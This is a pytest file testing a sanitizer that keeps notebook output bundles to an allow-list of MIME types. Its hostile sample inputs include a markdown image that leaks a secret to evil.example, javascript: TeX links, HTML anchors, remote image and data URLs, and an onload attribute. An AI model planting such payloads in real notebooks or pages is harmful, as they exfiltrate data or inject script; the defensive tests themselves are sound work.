"""MIME bundles and charts: an allow-list, and a word on what was left out."""

from __future__ import annotations

import json
from typing import Any

import pytest

from jupyter_autocoder.sandbox.clean.bundle import PLOTLY, clean_bundle

LITE = "application/vnd.vegalite.v5+json"
CHART = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.20.1.json",
    "data": {"name": "d"},
    "datasets": {"d": [{"x": 1, "url": "https://example.com", "href": "a"}]},
    "mark": {"type": "bar"},
    "encoding": {"x": {"field": "x", "type": "quantitative"}},
}
FIGURE = {"data": [{"type": "scatter", "x": [1], "y": [2]}], "layout": {"title": {"text": "T"}}}


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("text/plain", "x"),
        ("text/latex", "$\\frac{1}{2} \\sum_i x_i$"),
        ("application/json", {"a": [1, None]}),
        (PLOTLY, FIGURE),
        (LITE, CHART),
        ("text/html", "<b>x</b>"),
    ],
)
def test_known_kinds_come_through(kind: str, value: Any) -> None:
    bundle = clean_bundle({kind: value}, {})

    assert bundle.data == {kind: value}
    assert bundle.notes == []


@pytest.mark.parametrize(
    "kind",
    [
        "application/javascript",
        "application/vnd.jupyter.widget-view+json",
        "application/vnd.bokehjs_exec.v0+json",
        "application/vnd.vega.v5+json",
        "application/pdf",
        "text/x-made-up",
        "image/svg",
        "TEXT/HTML",
        "audio/mpeg",
    ],
)
def test_other_kinds_are_left_out_with_a_word(kind: str) -> None:
    bundle = clean_bundle({kind: "alert(1)", "text/plain": "kept"}, {})

    assert bundle.data == {"text/plain": "kept"}
    assert kind in bundle.notes[0]


def test_markdown_is_shown_as_its_source() -> None:
    source = "![x](https://evil.example/?secret)"

    bundle = clean_bundle({"text/plain": "<IPython.core.display.Markdown object>", "text/markdown": source}, {})

    assert bundle.data == {"text/plain": source}


@pytest.mark.parametrize(
    "tex", ["\\href{javascript:1}{x}", "\\def\\x{y}", "\\require{html}", "\\class{a}{b}", "<img>", "x" * 30_000]
)
def test_tex_that_does_more_than_typeset_is_left_out(tex: str) -> None:
    bundle = clean_bundle({"text/latex": tex, "text/plain": "kept"}, {})

    assert bundle.data == {"text/plain": "kept"}
    assert bundle.notes


@pytest.mark.parametrize(
    "change",
    [
        {"data": [{"type": "scattermapbox"}]},
        {"data": [{"type": "choropleth"}]},
        {"data": [{"type": "image", "source": "https://evil.example"}]},
        {"data": [{"type": "scatter", "text": ["<a href='https://evil.example'>x</a>"]}]},
        {"data": "x"},
        {"layout": {"images": [{"source": "https://evil.example"}]}},
        {"layout": {"mapbox": {"style": "https://evil.example"}}},
        {"layout": {"title": {"text": "<A HREF=x>"}}},
        {"frames": [{"layout": {"images": [{"source": "//evil"}]}}]},
    ],
)
def test_plotly_figures_that_load_or_link_are_left_out(change: dict[str, Any]) -> None:
    bundle = clean_bundle({PLOTLY: {**FIGURE, **change}, "text/plain": "kept"}, {})

    assert bundle.data == {"text/plain": "kept"}
    assert "chart" in bundle.notes[0]


def test_plotly_settings_of_the_page_are_left_out() -> None:
    bundle = clean_bundle({PLOTLY: {**FIGURE, "config": {"plotlyServerURL": "https://evil.example"}}}, {})

    assert bundle.data == {PLOTLY: FIGURE}


@pytest.mark.parametrize(
    "change",
    [
        {"data": {"url": "https://evil.example/data.csv"}},
        {"mark": "image"},
        {"mark": {"type": "image"}},
        {"encoding": {"href": {"field": "href"}}},
        {"encoding": {"url": {"field": "url"}}},
        {"transform": [{"calculate": "datum.x", "as": "y"}]},
        {"transform": [{"filter": "datum.x > 1"}]},
        {"transform": [{"lookup": "x", "from": {"data": {"url": "//evil"}, "key": "k"}}]},
        {"params": [{"name": "p", "expr": "1"}]},
        {"layer": [{"data": {"url": "//evil"}, "mark": "bar"}]},
        {"$schema": "https://vega.github.io/schema/vega/v5.json"},
    ],
)
def test_vega_lite_charts_that_load_link_or_compute_are_left_out(change: dict[str, Any]) -> None:
    bundle = clean_bundle({LITE: {**CHART, **change}, "text/plain": "kept"}, {})

    assert bundle.data == {"text/plain": "kept"}
    assert "chart" in bundle.notes[0]


def test_a_chart_too_deep_to_judge_is_left_out() -> None:
    deep: Any = 1
    for _ in range(200):
        deep = [deep]

    assert clean_bundle({PLOTLY: {**FIGURE, "layout": {"x": deep}}}, {}).data == {}


def test_only_sizes_of_pictures_survive_of_the_metadata() -> None:
    pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
    metadata = {"image/png": {"width": 10, "height": "20", "onload": "x"}, "isolated": True}

    bundle = clean_bundle({"image/png": pixel}, metadata)

    assert bundle.data.keys() == {"image/png"}
    assert bundle.metadata == {"image/png": {"width": 10}}


@pytest.mark.parametrize("data", [None, [], "x", 5])
def test_what_is_no_bundle_is_empty(data: object) -> None:
    assert clean_bundle(data, None).data == {}


def nested(depth: int) -> Any:
    value: Any = 1
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


@pytest.mark.parametrize(
    "wrap",
    [
        lambda value: {"application/json": value},
        lambda value: {PLOTLY: {"data": [{"x": value}]}},
        lambda value: {LITE: {"mark": "bar", "encoding": value}},
        lambda value: {LITE: {"mark": "bar", "data": {"values": value}}},
    ],
    ids=["json", "plotly", "vega-lite", "vega-lite-data"],
)
def test_data_nested_deeper_than_a_reader_can_follow_are_left_out_with_a_note(wrap: Any) -> None:
    flat = clean_bundle({**wrap(nested(40)), "text/plain": "a"}, {})
    deep = clean_bundle({**wrap(nested(600)), "text/plain": "a"}, {})

    assert (len(flat.data), flat.notes) == (2, [])
    assert deep.data == {"text/plain": "a"}
    assert "too deep" in deep.notes[0]


@pytest.mark.parametrize("text", ['{"a": "\\ud800"}', '{"\\udc00": 1}', "[NaN]", "[-Infinity]", "[1e999]"])
@pytest.mark.parametrize("kind", ["application/json", PLOTLY, LITE])
def test_data_that_no_reader_of_json_takes_are_left_out(kind: str, text: str) -> None:
    found = json.loads(text)
    value = {"application/json": found, PLOTLY: {"data": [{"x": found}]}, LITE: {"mark": found}}[kind]

    bundle = clean_bundle({kind: value}, {})

    assert bundle.data == {}
    assert len(bundle.notes) == 1
